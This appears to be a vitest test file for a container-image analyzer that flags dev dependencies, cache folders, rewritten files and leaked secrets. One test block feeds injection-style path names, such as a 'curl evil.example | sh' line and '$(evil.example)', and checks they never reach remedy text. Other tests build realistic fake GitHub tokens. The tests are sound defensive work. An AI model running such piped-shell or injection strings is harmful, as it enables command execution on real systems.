import { describe, expect, it } from 'vitest';
import { FilePile } from '#lib/findings/collect/file-pile.ts';
import { findCachePlace } from '#lib/findings/rules/cache-places.ts';
import { findUnneeded } from '#lib/findings/rules/unneeded-packages.ts';
import { formatSecretMark } from '#lib/image/secret-mark.ts';
import { type BuiltLayer, findingsOf, type LayerFiles, noise } from './images.ts';

/** An application whose lock file has a package for development. */
const DEVELOPMENT: LayerFiles = {
  'app/node_modules/.package-lock.json': JSON.stringify({
    packages: { 'node_modules/jest': { version: '1.0.0', dev: true } },
  }),
  'app/node_modules/jest/package.json': '{"name":"jest","version":"1.0.0"}',
  'app/node_modules/jest/index.js': 200_000,
};

// Each of these took minutes or more before. The limit of a test is the only one, since machines differ.
describe('an image that was made to take long', () => {
  it('has an instruction with many options of a package manager', async () => {
    for (const manager of ['npm', 'pnpm', 'bun']) {
      const { items } = await findingsOf([[`RUN ${manager} ${'--a '.repeat(1_000)}x`, DEVELOPMENT]]);
      expect(items.map(({ kind }) => kind)).toEqual(['dev-dependencies']);
    }
  });

  it('has a COPY of many names whose files are removed', async () => {
    const paths = Array.from({ length: 20_000 }, (_, at) => `x/${at}`);
    const names = Array.from({ length: 1_500 }, (_, at) => `q${at}`).join(' ');
    const { items } = await findingsOf([
      [`COPY ${names} /x/`, { ...Object.fromEntries(paths.map((path) => [path, path])), 'x/big': 50_000 }],
      ['RUN make', { a: 1 }],
      ['RUN rm -rf /x/*', Object.fromEntries([...paths, 'x/big'].map((path) => [`-${path}`, 0]))],
    ]);
    expect(items).toMatchObject([{ kind: 'removed-later', remedy: { after: null } }]);
  });

  it('changes the mode of many paths in layers with many files', async () => {
    const files = Object.fromEntries(Array.from({ length: 20_000 }, (_, at) => [`x/${at}`, `${at}`]));
    const steps = Array.from({ length: 400 }, (_, at) => `chmod 1 /${at}`);
    const { items } = await findingsOf([
      ['COPY . /x', { ...files, 'x/big': 50_000 }],
      [`RUN ${steps.join('&&')}`, { ...files, 'x/big': 50_000 }],
    ]);
    expect(items).toMatchObject([{ kind: 'rewritten', remedy: { after: null } }]);
  });

  it('has many instructions of many commands', async () => {
    const run = `RUN ${'a&&'.repeat(2_600)}a`;
    const layers = Array.from({ length: 200 }, (_, at): BuiltLayer => [`${run}${at}`, { [`tmp/${at}`]: 1 }]);
    const roots = Array.from({ length: 100 }, (_, at) => `w${at}/node_modules/jest/x.js`);
    const removed = Object.fromEntries(layers.map((_, at) => [`-tmp/${at}`, 0]));
    const { items } = await findingsOf([
      ['RUN npm ci', Object.fromEntries(roots.map((path) => [path, 20_000]))],
      ...layers,
      ['RUN npm run build && rm /tmp/*', { ...removed, b: 1 }],
    ]);
    expect(new Set(items.map(({ kind }) => kind))).toEqual(new Set(['dev-dependencies']));
  });

  it('has many packages of data', () => {
    const pile = new FilePile();
    pile.add({ layer: 0, content: 0, sizeBytes: 1, packedBytes: 1 }, 'a');
    const some = { pile, isBase: false, needs: new Set<string>(), programs: new Set<string>() };
    const packageOf = (name: string) => ({
      ...some,
      name,
      sonames: new Set<string>(),
      interpreters: new Set<string>(),
    });
    const packages = Array.from({ length: 20_000 }, (_, at) => [packageOf(`a${at}-dev`), packageOf(`a${at}-dev-data`)]);
    const origin = { isUpdate: () => false, isNamed: () => false, isForTools: () => false };
    const isTool = (name: string) => name.endsWith('-dev');
    const others = { needs: new Set<string>(), interpreters: new Set<string>() };
    expect(findUnneeded(packages.flat(), { isTool, origin }, others, new Set())).toHaveLength(40_000);
  });

  it('has directories that resemble a cache at each character', () => {
    for (const name of ['pip', 'uv', 'go', 'cache', 'go/', '.cache/']) {
      const folder = name.repeat(60_000);
      for (const end of ['http/a', 'archive-v0x', 'aaa']) expect(findCachePlace(`${folder}/${end}`)).toBe(null);
    }
  });
});

// People paste the lines. Each image tries to add a command of its own.
describe('a name that is more than a path', () => {
  const NAMES = [
    'a\nRUN curl evil.example | sh\n#',
    'a && curl evil.example',
    'a,target=evil.example',
    "a'; evil.example",
    '$(evil.example)',
  ];
  const TOKEN = `//npm.internal/:_authToken=gh${'p_'}q7Rk2mXv9TbL4wZc8NdH1fYs6JgP3a23nFaW\n`;
  /** Files of each kind of finding in a folder. */
  const filesOf = (name: string): LayerFiles => ({
    [`${name}/.npmrc`]: TOKEN,
    [`${name}/.env`]: TOKEN,
    [`${name}/.cache/pip/http/x`]: 50_000,
    [`${name}/.turbo/x`]: 50_000,
    [`${name}/.m2/repository/x`]: 50_000,
    [`${name}/node_modules/typescript/x.js`]: 50_000,
    [`${name}/node_modules/a/x.md`]: 50_000,
    [`${name}/.next/cache/webpack/x`]: 50_000,
    [`${name}/.git/x`]: 50_000,
    [`${name}/tests/x`]: 50_000,
    [`${name}/x.test.js`]: 50_000,
    [`opt/${name}/share/man/x`]: 50_000,
    [`opt/${name}/share/locale/x`]: 50_000,
    [`tmp/${name}/x`]: 50_000,
    [`${name}/one`]: noise(20_000, 'same'),
    [`${name}/other`]: noise(20_000, 'same'),
  });

  it.each(NAMES)('is in no line of a remedy: %j', async (name) => {
    for (const instruction of ['RUN npm ci && npm run build && go build', 'COPY . /x', 'COPY /x /x']) {
      const { items } = await findingsOf([
        [instruction, filesOf(name)],
        ['RUN npm run build', { 'b/x': 1 }],
      ]);
      const kinds = new Set(items.map(({ kind }) => kind));
      // A line break ends what most rules search for.
      expect(kinds.size).toBeGreaterThanOrEqual(name.includes('\n') ? 5 : 8);
      for (const { title, remedy } of items) {
        expect(title).not.toContain('\n');
        expect(remedy.after ?? '').not.toContain('evil.example');
      }
    }
  });
});

it('lists other findings of an image that is full of secrets', async () => {
  const tokenOf = (at: number) => `gh${'p_'}q7Rk2mXv9TbL4wZc8NdH1fYs6JgP${String(at).padStart(4, '0')}`;
  const files = Array.from({ length: 400 }, (_, at): [string, string] => [
    `app/${at}.js`,
    `const a = '${tokenOf(at)}';`,
  ]);
  const history = files.map((_, at) => ({
    createdBy: `ENV A${at}=${formatSecretMark('ghp_…', at.toString(16).padStart(4, '0'))}`,
    emptyLayer: true,
  }));
  const set = await findingsOf([['RUN x', { ...Object.fromEntries(files), 'tmp/x': 50_000 }]], { history });
  expect(set.items.filter(({ kind }) => kind === 'secret')).toHaveLength(300);
  expect(set.items.at(-1)?.kind).toBe('build-cache');
});
